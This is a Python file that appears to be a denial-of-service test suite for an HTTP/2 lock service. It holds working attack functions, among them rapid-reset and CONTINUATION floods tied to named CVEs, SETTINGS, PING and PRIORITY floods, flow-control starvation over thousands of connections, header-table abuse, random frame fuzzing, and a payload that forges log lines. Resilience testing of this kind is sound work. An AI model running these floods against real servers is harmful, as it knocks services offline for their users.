"""Attacks by HTTP/2."""
import contextlib
import struct
import time

from attack import attack, random_bytes
from frames import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, HELLO, PING, PREFACE, PRIORITY,
                    RST_STREAM, SETTINGS, WINDOW_UPDATE, field, frame, get, opening, request, settings)

ACQUIRE = "/latchkey.v3.Locks/Acquire"
WAIT = b'{"key":"held","owner":"w%d","lease":"5s","wait":"60s"}'


@attack()
def references_into_the_table(target):
    """Header lists of references to a long entry of the table, unfinished, on 300 connections."""
    head = b"\x83\x86\x04\x01/\x01\x01x"
    long = frame(HEADERS, END_HEADERS, 1, head + b"\x40\x01a\x7f\xef\x1d" + b"v" * 3_950)
    short = b"".join(frame(HEADERS, END_HEADERS, stream, head + b"\xbe" * 4) for stream in range(3, 2_043, 2))
    connections = []
    while not target.is_over() and len(connections) < 300:
        connection = target.connect()
        connections.append(connection)
        try:
            connection.sendall(opening() + long + short)
        except OSError:
            pass
    target.stay()


@attack()
def bodies_that_do_not_end_on_many_streams(target):
    """All but the end of as many bodies as a connection may have, on 100 connections."""
    def body(stream):
        return request(stream, ACQUIRE, b"a" * 16_000, end=False)
    connections = []
    while not target.is_over() and len(connections) < 100:
        connection = target.connect()
        connections.append(connection)
        try:
            connection.sendall(opening() + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)))
            for stream in range(1, 2_001, 2):
                connection.sendall(body(stream))
        except OSError:
            pass
    target.stay()


@attack(mebibytes_max=128)
def rapid_reset(target):
    """Requests that are taken back at once (CVE-2023-44487)."""
    while not target.is_over():
        connection = target.connect()
        try:
            connection.sendall(opening())
            for first in range(1, 200_001, 200):
                connection.sendall(b"".join(
                    get(stream) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08") for stream in range(first, first + 200, 2)))
        except OSError:
            pass
        connection.close()


@attack(mebibytes_max=128)
def waits_taken_back(target):
    """Waiting calls that are taken back at once."""
    while not target.is_over():
        connection = target.connect()
        try:
            connection.sendall(opening())
            for stream in range(1, 100_001, 2):
                connection.sendall(request(stream, ACQUIRE, WAIT % stream) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))
        except OSError:
            pass
        connection.close()


@attack(mebibytes_max=128)
def resets_that_the_server_has_to_make(target):
    """Frames that make the server reset streams of its own accord."""
    while not target.is_over():
        connection = target.connect()
        try:
            connection.sendall(opening())
            for stream in range(1, 100_001, 2):
                connection.sendall(get(stream, end=False) + frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\0"))
        except OSError:
            pass
        connection.close()


@attack(mebibytes_max=128)
def continuations_without_end(target):
    """A header block that goes on and on (CVE-2024-27316)."""
    target.flood(opening() + frame(HEADERS, 0, 1, b"\x83"), frame(CONTINUATION, 0, 1, b"\0\x01a\x7f\x9c\x7e" + b"v" * 16_283))


@attack(mebibytes_max=128)
def empty_continuations(target):
    """Empty pieces of a header block without end."""
    target.flood(opening() + frame(HEADERS, 0, 1, b"\x83"), frame(CONTINUATION, 0, 1) * 10_000)


@attack(mebibytes_max=128)
def settings_flood(target):
    """SETTINGS without end, whose acknowledgements are not read."""
    target.flood(opening(), settings((3, 100)) * 10_000)


@attack(mebibytes_max=128)
def ping_flood(target):
    """PINGs without end, whose answers are not read."""
    target.flood(opening(), frame(PING, 0, 0, b"12345678") * 10_000)


@attack(mebibytes_max=128)
def empty_data(target):
    """Empty DATA frames without end."""
    target.flood(opening() + get(1, end=False), frame(DATA, 0, 1) * 10_000)


@attack(mebibytes_max=128)
def priorities(target):
    """PRIORITY frames of streams that there are not."""
    target.flood(opening(), b"".join(frame(PRIORITY, 0, stream, b"\0\0\0\0\x10") for stream in range(1, 20_001, 2)))


@attack(mebibytes_max=128)
def window_updates(target):
    """WINDOW_UPDATE frames without end."""
    target.flood(opening(), frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01") * 10_000)


@attack(mebibytes_max=128)
def unknown_frames(target):
    """Frames of types that nobody knows."""
    target.flood(opening(), frame(0xF0, 0, 0, b"x" * 1_000) * 1_000)


@attack(mebibytes_max=128)
def hellos(target):
    """HELLO frames without end, with rubbish in them."""
    target.flood(opening(), b"".join(frame(HELLO, 0, 0, random_bytes(900)) for _ in range(200)))


@attack(mebibytes_max=128)
def hello_that_forges(target):
    """A HELLO whose software writes lines of its own into the log, and combining marks."""
    while not target.is_over():
        with target.connect() as connection:
            text = b"x\n2026-01-01T00:00:00 critical latchkeyd: FAKE \x1b[31m" + "\u0315\u0316".encode() * 20
            connection.sendall(opening() + frame(HELLO, 0, 0, b"\x0a" + bytes([len(text)]) + text) + get(1))
            connection.recv(1_000)


@attack(mebibytes_max=128)
def headers_on_closed_streams(target):
    """HEADERS on streams that are closed or were passed by."""
    target.flood(opening() + get(100_001), frame(HEADERS, END_HEADERS | END_STREAM, 3, b"\x82\x86\x84") * 10_000, receive_bytes=None)


@attack(mebibytes_max=128)
def data_on_closed_streams(target):
    """DATA on streams that are closed or were passed by."""
    target.flood(opening() + get(100_001), frame(DATA, END_STREAM, 3, b"x" * 256) * 5_000, receive_bytes=None)


@attack(mebibytes_max=192)
def more_streams_than_may_be(target):
    """As many waiting calls as a connection may have, and more, on 5 connections."""
    connections = []
    while not target.is_over() and len(connections) < 5:
        connection = target.connect()
        connections.append(connection)
        try:
            connection.sendall(opening())
            for stream in range(1, 3_001, 2):
                connection.sendall(request(stream, ACQUIRE, WAIT % (stream + 10_000 * len(connections))))
        except OSError:
            pass
    target.stay()


def shut_windows(target, connection_count, make_request):
    """As many requests as may be on each connection, whose answers may not be sent, again and again."""
    while not target.is_over():
        connections = []
        try:
            for _ in range(connection_count):
                connections.append(target.connect())
                connections[-1].sendall(opening((4, 0)) + b"".join(make_request(stream) for stream in range(1, 2_049, 2)))
        except OSError:
            pass
        time.sleep(1)
        for connection in connections:
            connection.close()


@attack(mebibytes_max=320)
def windows_that_stay_shut_before_the_metrics(target):
    """The longest answer that anybody may ask for."""
    shut_windows(target, 200, lambda stream: get(stream, "/metrics"))


@attack(mebibytes_max=320)
def windows_that_stay_shut_before_short_answers(target):
    shut_windows(target, 200, get)


@attack(mebibytes_max=320)
def windows_that_stay_shut_before_refusals(target):
    """Refusals that quote what they refuse."""
    shut_windows(target, 100, lambda stream: request(stream, "/latchkey.v3.Locks/List", b"{}", "x" * 1_000))


@attack(mebibytes_max=320)
def windows_that_stay_shut_before_values(target):
    """Answers just too short to count as long."""
    target.post("Acquire", {"key": "short", "owner": "attacker", "lease": "60s", "value": "v" * 3_500})
    shut_windows(target, 100, lambda stream: request(stream, "/latchkey.v3.Locks/Get", b'{"key":"short"}'))


def bursts(target, connection_count, opening, one):
    """As many requests as may be on each of thousands of connections: all at once, again and again."""
    burst = opening + b"".join(one(stream) for stream in range(1, 2_049, 2))
    sent = 0
    while not target.is_over() or not sent:
        with contextlib.ExitStack() as connections:
            everybody = [connections.enter_context(target.connect(timeout=30)) for _ in range(connection_count)]
            for connection in everybody:
                connection.setblocking(False)
            for connection in everybody:
                with contextlib.suppress(OSError):
                    sent += connection.send(burst)


@attack(extra_seconds=60)
def bursts_of_short_requests(target):
    bursts(target, 4_000, opening(), get)


@attack(extra_seconds=60)
def bursts_before_shut_windows(target):
    bursts(target, 4_000, opening((4, 0)), get)


@attack(extra_seconds=60)
def bursts_of_refusals(target):
    """None of them needs the store."""
    bursts(target, 4_000, opening(), lambda stream: request(stream, "/latchkey.v3.Locks/List", b"[]"))


@attack(extra_seconds=60)
def bursts_of_claims(target):
    """All of them do."""
    body = b'{"key":"held","owner":"a","lease":"60s"}'
    bursts(target, 4_000, opening(), lambda stream: request(stream, "/latchkey.v3.Locks/Acquire", body))


@attack(mebibytes_max=128)
def settings_that_contradict(target):
    """Windows, table sizes and frame sizes that go up and down between requests."""
    while not target.is_over():
        with target.connect() as connection:
            connection.sendall(opening())
            try:
                for stream in range(1, 401, 2):
                    connection.sendall(settings((1, stream * 97 % 5_000), (4, stream % 3), (5, 16_384 + stream)) + get(stream))
                connection.sendall(frame(SETTINGS, ACK, 0) * 10)
            except OSError:
                pass


@attack(mebibytes_max=128)
def numbers_at_their_ends(target):
    """Streams, windows, lengths and settings with the least and the greatest numbers there are."""
    numbers = [0, 1, 2, 3, 0x7FFFFFFD, 0x7FFFFFFE, 0x7FFFFFFF, 0x80000000, 0x80000001, 0xFFFFFFFE, 0xFFFFFFFF]
    head = b"\x82\x86" + field(":path", "/healthz") + field(":authority", "x")
    first = 0
    while not target.is_over():
        for second, number in enumerate(numbers):
            for kind, flags, payload in [
                (HEADERS, END_STREAM | END_HEADERS, head), (DATA, END_STREAM, b"x"), (RST_STREAM, 0, bytes(4)),
                (WINDOW_UPDATE, 0, struct.pack(">I", number)), (PRIORITY, 0, struct.pack(">IB", number, 255)),
                (CONTINUATION, END_HEADERS, head), (PING, 0, struct.pack(">II", numbers[first], number)),
                (SETTINGS, 0, struct.pack(">HI", second, numbers[first])),
            ]:
                with target.connect() as connection, contextlib.suppress(OSError):
                    connection.sendall(opening() + frame(HEADERS, END_STREAM | END_HEADERS, numbers[first], head)
                                       + frame(kind, flags, number, payload) + get(5))
        first = (first + 1) % len(numbers)


@attack(mebibytes_max=128)
def rubbish_frames(target):
    """Frames with random types, flags, streams and contents."""
    while not target.is_over():
        with target.connect() as connection:
            try:
                connection.sendall(PREFACE + (settings() if random_bytes(1)[0] & 1 else b""))
                for _ in range(50):
                    kind, flags, stream, size = random_bytes(4)
                    connection.sendall(frame(kind % 16, flags, stream % 8, random_bytes(size)))
            except OSError:
                pass


@attack(mebibytes_max=128)
def many_short_connections(target):
    """Connections that ask once over HTTP/2 and go, and a field that fills the table."""
    while not target.is_over():
        with target.connect() as connection:
            connection.sendall(opening() + request(1, ACQUIRE, b"{}", extra=field("x", "v" * 4_000, index=True)))
            connection.recv(100)
